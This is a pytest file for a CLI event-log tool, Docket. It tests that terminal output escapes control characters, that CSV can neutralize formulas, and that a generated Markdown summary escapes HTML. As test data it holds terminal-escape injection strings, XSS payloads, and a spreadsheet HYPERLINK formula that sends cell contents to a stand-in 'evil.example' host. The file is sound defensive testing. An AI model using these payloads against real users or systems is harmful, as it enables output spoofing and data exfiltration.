"""No input reaches the terminal raw (issue 20 item 6): every human-readable output escapes
control characters; JSON and CSV carry the data exactly; `--excel-safe` defuses formulas;
`summary.md` carries no HTML or Markdown from the data.

What is escaped (`docket.views.summary.printable`): every C0 control (ESC, BEL, CR, TAB, LF
…), DEL, every C1 control (U+0080–U+009F, U+009B being a one-byte CSI), the bidirectional
embeddings, overrides and isolates (U+202A–U+202E, U+2066–U+2069) and the line and paragraph
separators (U+2028, U+2029). The checks below test the output against that list with
`unicodedata`, not with Docket's own table.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import tempfile
import unicodedata
from pathlib import Path

from conftest import ctrl_c_reaches_it, interrupt, invoke, run
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from strategies import event_stream

from docket import EventLog
from docket.cli.format import csv_text, table
from docket.views.summary import printable

BIDI = {*map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}


def unsafe(ch: str) -> bool:
    """A character that must never reach a terminal from the data."""
    return unicodedata.category(ch) == "Cc" or ch in BIDI or ch in "\u2028\u2029"


def unsafe_in(text: str, *, but_newlines: bool = True) -> list[str]:
    return sorted({c for c in text if unsafe(c) and not (but_newlines and c == "\n")})


# An attack in one string: retitle the window (OSC … BEL), erase the line, return to its
# start, a C1 CSI, a right-to-left override, a new line that fakes a row, a tab.
H = "\x1b]0;pwned\x07\x1b[2K\r\x9b31m\u202eevil\nFAKE ROW\tx\u2028y"
SHOWN = printable(H)


# -- the escaping itself ------------------------------------------------------------------
@given(st.text())
def test_printable_leaves_no_control_character_and_changes_nothing_else(text):
    out = printable(text)
    assert unsafe_in(out, but_newlines=False) == []
    assert printable(out) == out                          # escapes are themselves safe
    assert printable("".join(c for c in text if not unsafe(c))) == \
        "".join(c for c in text if not unsafe(c))         # ordinary text untouched
    kept = printable(text, newlines=True)
    assert kept.count("\n") == text.count("\n") and unsafe_in(kept) == []


def test_printable_spells_each_escape():
    assert printable("a\x1b[2Jb\x07\r\n\t\x7f\x9b\u202e\u2066\u2028") == \
        "a\\x1b[2Jb\\x07\\r\\n\\t\\x7f\\x9b\\u202e\\u2066\\u2028"
    assert printable("x\ny", newlines=True) == "x\ny"
    # Letters, marks and symbols of every script, and left-to-right/right-to-left marks,
    # are text, not controls.
    assert printable("ठीक है · مرحبا \u200f · 中文 · ✓") == "ठीक है · مرحبا \u200f · 中文 · ✓"


@given(st.lists(st.dictionaries(st.sampled_from(["a", "b"]), st.text(max_size=20)),
                max_size=5))
def test_a_table_is_one_line_per_row_whatever_its_cells_hold(rows):
    text = table(rows, ("a", "b"))
    assert len(text.split("\n")) == 2 + len(rows)
    assert unsafe_in(text) == []
    # ... while CSV keeps every cell exactly.
    parsed = list(csv.reader(io.StringIO(csv_text(rows, ("a", "b")), newline="")))
    assert parsed[1:] == [[r.get("a", ""), r.get("b", "")] for r in rows]


# -- every human-readable output, on a log full of control characters ---------------------
def _hostile_log(folder: Path) -> Path:
    db = folder / "h.db"
    s = "h"
    # (A URL holding control characters is refused at entry: tests/test_input_errors.py.)
    src = [{"title": "Outlet: " + H, "url": "https://example.org/x", "published":
            "2021-02-01"}]
    events = [
        {"type": "order_issued", "stream": s, "occurred_at": "2021-02-01", "id": "o" + H,
         "actor": H, "sources": src,
         "data": {"order_id": "O" + H, "issuer": H, "platform": H, "targets": ["@" + H],
                  "legal_basis": H, "deadline": "2021-02-03"}},
        {"type": "accounts_blocked", "stream": s, "occurred_at": "2021-02-02", "id": "b1",
         "data": {"order_id": "O" + H, "targets": ["@" + H]}},
        {"type": "notice_sent", "stream": s, "occurred_at": "2021-02-03", "id": "n1",
         "data": {"notice_id": "N" + H, "kind": "final", "issuer": H, "recipient": H,
                  "order_ids": ["O" + H]}},
        {"type": "acknowledgement_sent", "stream": s, "occurred_at": "2021-02-04", "id": "a1",
         "data": {"ref_id": "N" + H, "by": H}},
        {"type": "dialogue_requested", "stream": s, "occurred_at": "2021-02-04", "id": "d1",
         "data": {"by": H, "addressee": H}},
        {"type": "compliance_reported", "stream": s, "occurred_at": "2021-02-05", "id": "r1",
         "data": {"order_id": "O" + H, "actioned": 1, "specified": 1, "reporter": H}},
        {"type": "statement_published", "stream": s, "occurred_at": "2021-02-05", "id": "s1",
         "data": {"speaker": H, "summary": H}},
        {"type": "challenge_filed", "stream": s, "occurred_at": "2021-02-06", "id": "c1",
         "data": {"case_id": "C" + H, "court": H, "petitioner": H, "order_ids": ["O" + H]}},
        {"type": "ruling_issued", "stream": s, "occurred_at": "2021-02-07", "id": "u1",
         "data": {"case_id": "C" + H, "court": H, "outcome": H}},
        {"type": "event_retracted", "stream": s, "occurred_at": "2021-02-08", "id": "x1",
         "data": {"target_id": "s1", "reason": H}},
    ]
    EventLog(str(db)).append(events)
    return db


def test_every_human_output_escapes_what_the_data_holds(tmp_path):
    db = _hostile_log(tmp_path)
    # Each command, with how many lines it must print (a newline in the data adds none).
    commands = {
        ("log",): 10 + 1,                # ten events, one of them with a source
        ("log", "--wide"): 10 + 1,
        ("compliance",): 3,
        ("state",): 2 + 8 * 4 + 5,       # one row in each of the five v1 sections, 3 empty
        ("why", "O" + H): None, ("why", "N" + H): None, ("why", "C" + H): None,
        ("why", "@" + H): None,
        ("diff", "--from", "2021-01-01", "--to", "2021-03-01"): None,
    }
    for args, lines in commands.items():
        code, out, err = run(*args, "--db", db)
        assert code == 0 and err == "", (args, err)
        assert unsafe_in(out) == [], args
        assert SHOWN in out or printable("O" + H) in out, args
        if lines is not None:
            assert out.count("\n") == lines, (args, out)
    code, out, _ = run("why", "O" + H, "--db", db)
    because = out.split("because:\n")[1].splitlines()
    assert because[0] == (f"  #1 2021-02-01 order_issued {SHOWN}: orders {SHOWN} to block "
                          f"1 target ({printable('O' + H)}, by {SHOWN}) [{printable('o' + H)}]")
    assert because[1] == (f"      source: Outlet: {SHOWN} (2021-02-01) "
                          "<https://example.org/x>")
    # The folder names a user gives are escaped too (verify's and project's summaries).
    out_dir = tmp_path / ("proj" + "\x1b[2J\x07")
    code, out, err = run("project", "--db", db, "--out", out_dir)
    assert code == 0 and unsafe_in(out) == [] and "proj\\x1b[2J\\x07" in out, err
    code, out, err = run("verify", "--db", db, "--projections", out_dir)
    assert code == 0 and out.count("\n") == 1 and unsafe_in(out) == [], err
    # A problem line that quotes a hostile name (a stream folder the log lacks) is one line.
    (out_dir / ("gone" + H)).mkdir()
    (out_dir / ("gone" + H) / "state.json").write_text("{}")
    code, out, err = run("verify", "--db", db, "--projections", out_dir)
    assert code == 1 and out.count("\n") == 2 and unsafe_in(out) == [], err
    assert f"the log holds no stream {printable(repr('gone' + H))}" in out
    # ... and so are errors that quote them.
    code, out, err = run("export", "--db", db, "-o", tmp_path / "no\x1b[2Jdir" / "x")
    assert code == 1 and err.count("\n") == 1 and unsafe_in(err) == [] and "\\x1b[2J" in err


def test_json_and_csv_carry_the_data_exactly(tmp_path):
    db = _hostile_log(tmp_path)
    _, out, _ = run("log", "--json", "--db", db)
    records = json.loads(out)
    assert records[0]["actor"] == H and records[0]["data"]["issuer"] == H
    assert records[0]["sources"][0]["title"] == "Outlet: " + H
    _, out, _ = run("log", "--csv", "--db", db)
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert rows[0]["actor"] == H and rows[0]["id"] == "o" + H
    assert rows[6]["summary"] == H                            # the statement, whole
    assert rows[0]["sources"] == f"Outlet: {H} (2021-02-01) <https://example.org/x>"
    _, out, _ = run("compliance", "--csv", "--db", db)
    assert list(csv.DictReader(io.StringIO(out, newline="")))[0]["issuer"] == H
    why = json.loads(run("why", "C" + H, "--json", "--db", db)[1])
    assert why["status"]["court"] == H and why["status"]["rulings"][0]["outcome"] == H


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(event_stream(max_size=10, max_streams=2))
def test_any_valid_log_prints_no_control_character_and_a_line_per_row(events):
    folder = Path(tempfile.mkdtemp())
    try:
        db = folder / "p.db"
        EventLog(str(db)).append(events)
        code, out, err = invoke("log", "--db", db)
        assert code == 0, err
        assert unsafe_in(out) == []
        records = json.loads(invoke("log", "--json", "--db", db)[1])
        assert out.count("\n") == sum(1 + len(r["sources"]) for r in records)
        code, out, err = invoke("compliance", "--db", db)
        assert code == 0 and unsafe_in(out) == [], err
        assert out.count("\n") == 2 + len(json.loads(invoke("compliance", "--json", "--db",
                                                            db)[1]))
        for stream in sorted({e["stream"] for e in events}):
            view = json.loads(invoke("state", "--json", "--stream", stream, "--db", db)[1])
            code, out, err = invoke("state", "--stream", stream, "--db", db)
            assert code == 0 and unsafe_in(out) == [], err
            sections = ("orders", "accounts", "notices", "dialogue", "challenges",
                        "penalties", "penalty_totals", "service")
            rows = sum(len(view[k]) for k in sections)
            assert out.count("\n") == 2 + len(sections) * 4 + rows
            for ref in [*view["orders"], *view["notices"], *view["challenges"],
                        *view["accounts"]][:6]:
                code, out, err = invoke("why", "--stream", stream, "--db", db, "--", ref)
                assert code == 0 and unsafe_in(out) == [], (ref, err)
                answer = json.loads(invoke("why", "--json", "--stream", stream, "--db", db,
                                           "--", ref)[1])
                status_lines = len(answer["status"]) - (2 if answer["kind"] == "order" else 0)
                # a case's rulings take a line each (one, "-", when there are none)
                status_lines += max(0, len(answer["status"].get("rulings") or []) - 1)
                assert out.count("\n") == 2 + status_lines + sum(
                    1 + len(e["sources"]) for e in answer["events"])
    finally:
        shutil.rmtree(folder)


# -- spreadsheets ---------------------------------------------------------------------------
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _formula_log(folder: Path) -> Path:
    db = folder / "f.db"
    EventLog(str(db)).append([
        {"type": "order_issued", "stream": "f", "occurred_at": "2021-02-01", "id": "+o1",
         "actor": "@gov", "data": {"order_id": "-O1", "issuer": FORMULA, "platform": "\tP",
                                   "targets": ["@a", "=b"], "target_count": 2}},
        {"type": "accounts_blocked", "stream": "f", "occurred_at": "2021-02-02", "id": "b1",
         "data": {"order_id": "-O1", "targets": ["@a"]}},
    ])
    return db


def test_excel_safe_prefixes_formula_cells_and_nothing_else(tmp_path):
    db = _formula_log(tmp_path)

    def cells(*args):
        code, out, err = run(*args, "--db", db)
        assert code == 0, err
        return list(csv.DictReader(io.StringIO(out, newline="")))

    exact = cells("compliance", "--csv")[0]
    assert (exact["issuer"], exact["order_id"], exact["platform"]) == (FORMULA, "-O1", "\tP")
    safe = cells("compliance", "--csv", "--excel-safe")[0]
    assert (safe["issuer"], safe["order_id"], safe["platform"]) == \
        ("'" + FORMULA, "'-O1", "'\tP")
    # Numbers stay numbers, plain text stays as it was.
    assert (safe["target_count"], safe["compliance"], safe["status"]) == ("2", "0.5", "partial")
    log = cells("log", "--csv", "--excel-safe")
    assert (log[0]["id"], log[0]["actor"], log[0]["type"]) == ("'+o1", "'@gov", "order_issued")
    assert cells("log", "--csv")[0]["id"] == "+o1"
    out = tmp_path / "state"
    assert run("state", "--csv", "--excel-safe", "-o", out, "--db", db)[0] == 0
    accounts = list(csv.DictReader((out / "accounts.csv").open(newline="")))
    assert [a["target"] for a in accounts] == ["'@a"]
    assert [a["order_id"] for a in accounts] == ["'-O1"]
    # Only with --csv.
    code, out, err = run("compliance", "--excel-safe", "--db", db)
    assert code == 2 and out == "" and "--excel-safe goes with --csv" in err


# -- summary.md -----------------------------------------------------------------------------
def test_summary_md_carries_no_html_or_markup_from_the_data(tmp_path):
    db = tmp_path / "m.db"
    EventLog(str(db)).append([
        {"type": "order_issued", "stream": "m", "occurred_at": "2021-02-01",
         "data": {"order_id": "O|1 *bold* [x](javascript:alert(1))",
                  "issuer": "<img src=x onerror=alert(1)> & <script>alert(2)</script>",
                  "platform": "P", "target_count": 1}},
        {"type": "compliance_reported", "stream": "m", "occurred_at": "2021-02-02",
         "data": {"order_id": "O|1 *bold* [x](javascript:alert(1))", "actioned": 1,
                  "specified": 1, "reporter": "`code`\n| forged | row |\x1b[2J"}},
    ])
    assert run("project", "--db", db, "--out", tmp_path / "p")[0] == 0
    text = (tmp_path / "p" / "m" / "summary.md").read_text()
    row = text.splitlines()[-1]
    assert "<" not in text and ">" not in text
    assert row.startswith("| O\\|1 \\*bold\\* \\[x\\](javascript:alert(1)) | 2021-02-01 | "
                          "&lt;img src=x onerror=alert(1)&gt; &amp; &lt;script&gt;alert(2)"
                          "&lt;/script&gt; | 1 |")
    assert row.endswith("| 1/1 (\\`code\\` \\| forged \\| row \\|\\\\x1b\\[2J) |")
    assert unsafe_in(text) == [] and len(text.splitlines()) == 10   # one row, one line


def test_log_follow_lines_are_escaped(tmp_path):
    import subprocess

    from conftest import DOCKET

    db = _hostile_log(tmp_path)
    proc = subprocess.Popen([str(DOCKET), "log", "--db", str(db), "--follow", "--wide"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=ctrl_c_reaches_it)
    try:
        lines = [proc.stdout.readline().decode() for _ in range(10)]
    finally:
        _, err = interrupt(proc)
    assert proc.returncode == 0 and err == b""
    assert all(unsafe_in(line) == [] and line.endswith("\n") for line in lines)
    assert lines[0].startswith("#1 ") and lines[0].endswith(
        f"order_issued          {SHOWN}: orders {SHOWN} to block 1 target "
        f"({printable('O' + H)}, by {SHOWN})\n")
    assert [line.split()[0] for line in lines] == [f"#{i}" for i in range(1, 11)]
